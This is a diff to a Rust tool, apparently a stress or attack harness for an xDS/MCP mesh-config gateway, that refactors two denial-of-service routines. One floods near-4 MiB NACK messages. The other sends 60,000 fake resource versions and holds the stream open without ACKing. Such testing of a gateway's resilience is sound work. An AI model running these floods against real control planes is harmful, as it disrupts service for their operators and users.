@@ -8,14 +8,9 @@ use std::sync::Arc;
 
 use mcp_xds_gateway::proto::{IncrementalMeshConfigRequest, MeshConfigRequest, SinkNode};
 use tokio::io::AsyncWriteExt;
-use tokio::sync::mpsc;
-use tokio_stream::wrappers::ReceiverStream;
 use tokio_util::sync::CancellationToken;
 
-use crate::clients::LoadCodec;
-
-const SOTW_PATH: &str = "/istio.mcp.v1alpha1.AggregatedMeshConfigService/StreamAggregatedResources";
-const INCREMENTAL_PATH: &str = "/istio.mcp.v1alpha1.AggregatedMeshConfigService/IncrementalAggregatedResources";
+use crate::clients::{open, INCREMENTAL_PATH, SOTW_PATH};
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, serde::Serialize)]
 #[serde(rename_all = "kebab-case")]
@@ -91,23 +86,12 @@ async fn nack_flood(
     attack: &Attack,
     stop: &CancellationToken,
 ) -> anyhow::Result<()> {
-    let mut grpc = tonic::client::Grpc::new(channel(addr).await?).max_encoding_message_size(usize::MAX);
-    grpc.ready().await?;
-    let (tx, rx) = mpsc::channel(4);
-    tx.send(MeshConfigRequest {
+    let first = MeshConfigRequest {
         sink_node: node(i),
         type_url: collection.clone(),
         ..Default::default()
-    })
-    .await?;
-    let mut inbound = grpc
-        .streaming(
-            tonic::Request::new(ReceiverStream::new(rx)),
-            tonic::codegen::http::uri::PathAndQuery::from_static(SOTW_PATH),
-            LoadCodec::<MeshConfigRequest>::default(),
-        )
-        .await?
-        .into_inner();
+    };
+    let (tx, mut inbound) = open(channel(addr).await?, SOTW_PATH, vec![first]).await?;
     attack.established.fetch_add(1, Ordering::Relaxed);
     // Just under the default --max-request-bytes (4 MiB).
     let message = "x".repeat((4 << 20) - 4096);
@@ -141,28 +125,18 @@ async fn initial_versions(
     attack: &Attack,
     stop: &CancellationToken,
 ) -> anyhow::Result<()> {
-    let mut grpc = tonic::client::Grpc::new(channel(addr).await?).max_encoding_message_size(usize::MAX);
-    grpc.ready().await?;
-    let (tx, rx) = mpsc::channel(4);
     let initial_resource_versions = (0..60_000)
         .map(|n| (format!("attacker-{i}/ghost-resource-{n:08}"), format!("{n:016x}")))
         .collect();
-    tx.send(IncrementalMeshConfigRequest {
+    let first = IncrementalMeshConfigRequest {
         sink_node: node(i),
         type_url: collection,
         initial_resource_versions,
         ..Default::default()
-    })
-    .await?;
+    };
+    // The sender is kept: the stream stays open, never ACKing.
+    let (_tx, mut inbound) = open(channel(addr).await?, INCREMENTAL_PATH, vec![first]).await?;
     attack.messages.fetch_add(1, Ordering::Relaxed);
-    let mut inbound = grpc
-        .streaming(
-            tonic::Request::new(ReceiverStream::new(rx)),
-            tonic::codegen::http::uri::PathAndQuery::from_static(INCREMENTAL_PATH),
-            LoadCodec::<IncrementalMeshConfigRequest>::default(),
-        )
-        .await?
-        .into_inner();
     attack.established.fetch_add(1, Ordering::Relaxed);
     // Read every response, ACK none.
     loop {
